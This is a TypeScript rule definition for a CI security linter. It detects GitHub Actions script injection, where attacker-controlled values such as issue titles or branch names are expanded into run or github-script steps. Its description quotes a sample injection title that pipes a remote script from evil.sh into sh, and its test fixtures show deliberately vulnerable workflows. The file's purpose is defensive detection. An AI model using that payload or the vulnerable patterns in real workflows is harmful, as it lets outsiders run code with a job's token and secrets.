import { defineRule, expressionsAt, parseUses } from "@tollgate/engine";
import { attackerControlledEnv } from "../../support/env-files.js";
import { attackerControlledContexts, yieldsBoolean } from "../../support/github-contexts.js";

export default defineRule({
  meta: {
    id: "gha-template-injection",
    title: "Attacker-controlled context expanded into a script",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description:
      "A `${{ }}` expression that reads text an outsider controls (an issue or pull request title or body, a comment, a branch name, a commit message…) is pasted into a shell script or an `actions/github-script` script before it runs. A title such as `\"; curl evil.sh | sh; echo \"` then runs with the job's token and secrets.",
    remediation:
      "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`\"$TITLE\"`), or as `process.env.TITLE` in github-script.",
    precision: "high",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"],
  },
  check(step, { report, graph }) {
    const scriptPaths: Array<readonly (string | number)[]> = [["run"]];
    const uses = typeof step.attributes.uses === "string" ? parseUses(step.attributes.uses) : undefined;
    if (uses?.kind === "repository" && `${uses.owner}/${uses.repo}`.toLowerCase() === "actions/github-script") scriptPaths.push(["with", "script"]);
    let tainted: Map<string, string> | undefined;
    for (const path of scriptPaths) {
      for (const { expression, range } of expressionsAt(step, path)) {
        // A boolean such as contains(github.event.issue.title, 'x') carries no text into the script.
        if (yieldsBoolean(expression)) continue;
        for (const context of attackerControlledContexts(expression)) {
          report({ at: path, range, message: `${context} is expanded into the ${path.join(".")} script of ${step.name}: anyone who controls it can run code in this job` });
        }
        // `${{ env.TITLE }}` is the same text when TITLE was set from such a context at any level.
        for (const match of expression.matchAll(/(?<![\w.])env\.([A-Za-z_][\w-]*)/g)) {
          const context = (tainted ??= attackerControlledEnv(step, graph)).get(match[1]!);
          if (context) report({ at: path, range, message: `env.${match[1]} holds ${context} and is expanded into the ${path.join(".")} script of ${step.name}: anyone who controls it can run code in this job` });
        }
      }
    }
  },
  examples: {
    valid: [
      {
        name: "value passed through the environment",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "$TITLE"
      - run: echo "Run \${{ github.run_id }}"
      - run: echo "\${{ contains(github.event.issue.title, '[bug]') }}"
`,
      },
    ],
    invalid: [
      {
        name: "issue title in a run block",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "Thanks"
          echo "\${{ github.event.issue.title }}"
`,
        errors: [{ line: 8, column: 17, messageIncludes: "github.event.issue.title" }],
      },
      {
        name: "pull request head ref in github-script",
        filename: ".github/workflows/pr.yml",
        code: `on: pull_request_target
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: console.log("\${{ github.event.pull_request.head.ref }}")
`,
        errors: [{ line: 8, column: 32, messageIncludes: "head.ref" }],
      },
      {
        name: "job environment variable set from the title, expanded with env",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    env:
      TITLE: \${{ github.event.issue.title }}
    steps:
      - run: echo "\${{ env.TITLE }}"
`,
        errors: [{ line: 8, column: 20, messageIncludes: "env.TITLE" }],
      },
      {
        name: "composite action step",
        filename: ".github/actions/label/action.yml",
        code: `name: Label
description: Labels the pull request from its branch name
runs:
  using: composite
  steps:
    - shell: bash
      run: ./label.sh \${{ github.event.pull_request.head.ref }}
`,
        errors: [{ line: 7, column: 23, messageIncludes: "head.ref" }],
      },
    ],
  },
});
